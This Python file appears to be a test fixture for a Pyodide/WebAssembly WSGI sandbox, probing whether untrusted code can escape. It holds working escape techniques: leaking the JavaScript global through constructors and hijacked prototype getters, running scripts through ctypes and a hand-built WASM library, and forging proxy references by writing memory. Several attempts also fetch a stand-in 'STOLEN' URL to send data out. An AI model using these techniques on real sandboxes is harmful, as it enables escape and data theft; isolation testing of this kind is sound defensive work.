"""Ways out of a process, as far as each leads: what a stranger's code would try."""

import ctypes
import json
import os
import urllib.request
from collections.abc import Callable

from pyodide.ffi import JsProxy, create_proxy, to_js

import _wasgi

URL = os.environ["STOLEN"]


def the_module_has_a_constructor() -> object:
    return _wasgi.constructor


def a_function_of_the_module_has_a_constructor() -> object:
    return _wasgi.wait.constructor


def a_function_of_the_module_leads_to_function() -> object:
    return _wasgi.wait.__proto__


def text_becomes_a_function() -> object:
    return to_js({}).constructor.constructor("return globalThis")()


def text_becomes_a_generator() -> object:
    return to_js([]).values.constructor("return globalThis")()


def _object() -> JsProxy:
    return to_js({}).constructor


def _define(target: JsProxy, name: str) -> list[object]:
    """Has a getter of ours called with who asks for ``name``."""
    leaked: list[object] = []
    descriptor = _object().new()
    descriptor.get = create_proxy(leaked.append, capture_this=True)
    descriptor.configurable = True
    _object().defineProperty(target, name, descriptor)
    return leaked


def _leaked_global() -> JsProxy:
    leaked = _define(_object().prototype, "devicePixelRatio")
    ctypes.PyDLL(None).emscripten_get_device_pixel_ratio()
    return leaked[0]


def a_getter_on_the_prototype_of_all() -> object:
    return _leaked_global()


def the_global_asks_the_host() -> object:
    """With the visitor's cookie; it waits for the answer, so that the host has seen it."""
    request = _leaked_global().XMLHttpRequest.new()
    request.open("GET", URL, False)
    request.send(None)
    return request.responseText


def a_prototype_is_changed() -> object:
    to_js([]).__proto__.push = create_proxy(print)
    return "a prototype was changed"


def errors_tell_of_their_stacks() -> object:
    _error().constructor.prepareStackTrace = create_proxy(lambda error, sites: sites)
    return "prepareStackTrace was set"


def _error() -> JsProxy:
    try:
        to_js([]).at.call.call(1)
    except Exception as error:
        return error.js_error
    raise AssertionError("it did not fail")


def c_runs_a_script() -> object:
    ctypes.PyDLL(None).emscripten_run_script(b"self.fetch('" + URL.encode() + b"')")
    return "emscripten_run_script ran"


def c_reaches_javascript_objects() -> object:
    return ctypes.PyDLL(None).hiwire_get


def c_fetches() -> object:
    return ctypes.PyDLL(None).emscripten_async_wget_data


def a_library_runs_a_script() -> object:
    """A library of ours that imports what runs JavaScript."""

    def section(number: int, content: bytes) -> bytes:
        return bytes([number, len(content)]) + content

    def name(text: bytes) -> bytes:
        return bytes([len(text)]) + text

    library = (
        b"\0asm\1\0\0\0"
        + section(0, name(b"dylink.0") + bytes([1, 4, 0, 0, 0, 0]))
        + section(1, bytes([1, 0x60, 1, 0x7F, 0]))
        + section(2, bytes([1]) + name(b"env") + name(b"emscripten_run_script") + bytes([0, 0]))
        + section(7, bytes([1]) + name(b"run") + bytes([0, 0]))
    )
    with open("/tmp/library.so", "wb") as file:
        file.write(library)
    ctypes.PyDLL("/tmp/library.so").run(b"self.fetch('" + URL.encode() + b"')")
    return "a library ran a script"


def _forged() -> JsProxy:
    """Pyodide's own API: memory says which object a proxy stands for, and ctypes writes memory."""
    word = 9 * 4
    reference = ctypes.c_uint32.from_address(id(_wasgi) + word).value
    forged = to_js([])
    _kept.append(forged)
    # The entry before that of `_wasgi`, but for four: see docs/realm.md.
    ctypes.c_uint32.from_address(id(forged) + word).value = reference - 7 + 2
    return forged


_kept: list[JsProxy] = []


def pyodide_is_reached() -> object:
    """Whether forging still works, so that what follows is tested."""
    assert "_module" in dir(_forged()), "the layout of proxies has changed: adapt this test"
    raise NotImplementedError


def pyodide_fetches() -> object:
    _forged()._api.loadBinaryFile(URL)
    return "loadBinaryFile was called"


def pyodide_imports() -> object:
    return _forged()._api.loadScript(URL)


def a_timer_runs_text() -> object:
    _forged()._api.scheduleCallback(f"fetch('{URL}')", 5)
    return "text was scheduled"


def a_timer_tells_its_global() -> object:
    leaked: list[object] = []
    _forged()._api.scheduleCallback(create_proxy(leaked.append, capture_this=True), 5)
    import time

    time.sleep(0.05)
    if str(leaked[0]) != "undefined" and leaked[0] is not None:
        return leaked[0]
    raise ReferenceError("a timer has no `this`")


def pyodide_makes_another_interpreter() -> object:
    return _forged()._api.config.createPyodideModule


def shared_files_are_written() -> object:
    fs = _forged().FS
    node = fs.lookupPath("/lib/python314.zip").node
    node.contents.set(to_js(b"rewritten"))
    return "the standard library was rewritten"


def shared_files_are_caught_when_read() -> object:
    fs = _forged().FS
    node = fs.lookupPath("/lib/python314.zip").node
    caught: list[object] = []
    into = _object().new()
    into.set = create_proxy(lambda bytes, at: caught.append(bytes))
    node.stream_ops.read(None, into, 0, 16, 0)
    return caught[0]


def urllib_fetches() -> object:
    return urllib.request.urlopen(URL, timeout=1)


def outcome(way: Callable[[], object]) -> str:
    """What a way leads to; "no: …" is nowhere."""
    try:
        return f"yes: {way()}"
    except BaseException as error:
        return f"no: {type(error).__name__}: {error}"


WAYS = {
    name: way
    for name, way in list(globals().items())
    if callable(way) and getattr(way, "__module__", "") == __name__ and "_" in name.strip("_")
    if not name.startswith("_")
}


def app(environ, start_response):
    """Answers with the ways there are, or with what one led to."""
    start_response("200 OK", [("Content-Type", "text/plain")])
    way = WAYS.get(environ["PATH_INFO"][1:])
    return [(outcome(way) if way else json.dumps(list(WAYS))).encode()]
